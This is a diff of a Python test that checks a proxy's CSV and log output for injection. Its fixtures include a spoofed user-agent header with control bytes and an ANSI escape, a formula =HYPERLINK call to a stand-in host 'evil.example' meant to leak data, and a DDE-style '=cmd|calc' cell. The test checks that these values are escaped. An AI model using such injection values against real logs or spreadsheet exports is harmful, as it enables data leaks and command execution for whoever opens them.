@@ -17,7 +17,7 @@ ESC_AGENT = "\x1b[31mred-agent\x1b[0m"
 # What a header may carry past the HTTP parser: a quote, bytes >= 0x80 (here C2 9B, U+009B,
 # and a lone FF).
 AGENT = 'evil-agent\xc2\x9b31m\xff" msg=spoofed'
-AGENT_LOGGED = 'node="evil-agent\\xc2\\x9b31m\\xff\\" msg=spoofed"'
+AGENT_LOGGED = 'agent="evil-agent\\xc2\\x9b31m\\xff\\" msg=spoofed"'
 FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak","click")'
 
 
@@ -78,9 +78,11 @@ class LogInjectionTest(ProxyTestCase):
         self.assertEqual(r.status, 200, r.body)
         text = r.body.decode()
         rows = list(csv.DictReader(io.StringIO(text)))
+        by_agent = {row["user_agent"]: row for row in rows}
+        self.assertIn("'" + FORMULA_AGENT, by_agent)
+        self.assertEqual(by_agent["'" + FORMULA_AGENT]["reference"], "v1")
+        self.assertEqual(by_agent["'" + FORMULA_AGENT]["node"], "127.0.0.1")  # no X-Strata-Node: the client
         by_node = {row["node"]: row for row in rows}
-        self.assertIn("'" + FORMULA_AGENT, by_node)
-        self.assertEqual(by_node["'" + FORMULA_AGENT]["reference"], "v1")
         self.assertEqual(by_node["'@node"]["reference"], "'=cmd|calc")
         for row in rows:
             for name, cell in row.items():
